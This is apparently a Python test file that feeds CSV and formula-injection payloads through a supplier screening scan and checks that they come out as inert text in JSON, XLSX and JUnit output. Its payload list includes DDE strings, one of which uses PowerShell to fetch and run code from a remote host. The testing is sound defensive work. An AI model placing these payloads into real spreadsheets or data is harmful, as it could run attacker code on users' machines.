"""Formula and CSV injection: hostile names go through a whole scan and come out as text.

The workbook holds no formula cell made from input data (openpyxl data type ``f``), the JUnit
XML is well-formed with the text intact, and the JSON carries every name exactly.
"""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import openpyxl

from screener.inputs import read_suppliers
from tests.robustness.conftest import assert_every_row, scan_json

PAYLOADS = [
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
    "=1+1\u0000evil",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "\ufeff=3+3",
    "ｰ=4+4 full-width",
]
IDS = [f"X{i:02d}" for i in range(1, len(PAYLOADS) + 1)]


def hostile_file(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, quoting=csv.QUOTE_ALL)
        writer.writerow(["supplier_id", "name", "aliases", "parent", "country"])
        for sid, payload in zip(IDS, PAYLOADS, strict=True):
            writer.writerow([sid, payload, f"{payload} alias", f"{payload} parent", "=DE"])
    return path


def scanned(tmp_path: Path) -> tuple[list[str], dict[str, Any]]:
    path = hostile_file(tmp_path / "hostile.csv")
    names = [r.name for r in read_suppliers(path).records]
    _, result = scan_json(tmp_path, path)
    assert_every_row(result, IDS)
    return names, result


def test_json_carries_every_name_exactly(tmp_path: Path, small_data_dir: Path) -> None:
    names, result = scanned(tmp_path)
    assert [s["name"] for s in result["suppliers"]] == names
    for name, payload in zip(names, PAYLOADS, strict=True):
        # the reader may only trim surrounding white space and drop control characters
        assert name.strip() == name
        core = payload.strip().replace("\u0000", "").lstrip("\ufeff")
        assert name == core, (name, payload)


def test_workbook_holds_no_formula_from_data(tmp_path: Path, small_data_dir: Path) -> None:
    names, _ = scanned(tmp_path)
    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
    seen: dict[str, int] = dict.fromkeys(names, 0)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                hostile = any(name in cell.value for name in names)
                assert not (hostile and cell.data_type == "f"), (sheet.title, cell.coordinate)
                if cell.value in seen:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen[cell.value] += 1
    assert all(seen.values()), [name for name, count in seen.items() if not count]


def test_junit_is_well_formed_with_text_intact(tmp_path: Path, small_data_dir: Path) -> None:
    names, _ = scanned(tmp_path)
    root = ET.parse(tmp_path / "junit.xml").getroot()
    cases = root.findall(".//testcase")
    assert len(cases) == len(IDS)
    text = ET.tostring(root, encoding="unicode")
    for case, sid, name in zip(cases, IDS, names, strict=True):
        rendered = " ".join(f"{k}={v}" for k, v in case.attrib.items())
        assert sid in rendered
        assert name in rendered or name in "".join(case.itertext()), (name, rendered)
    assert "\u0000" not in text
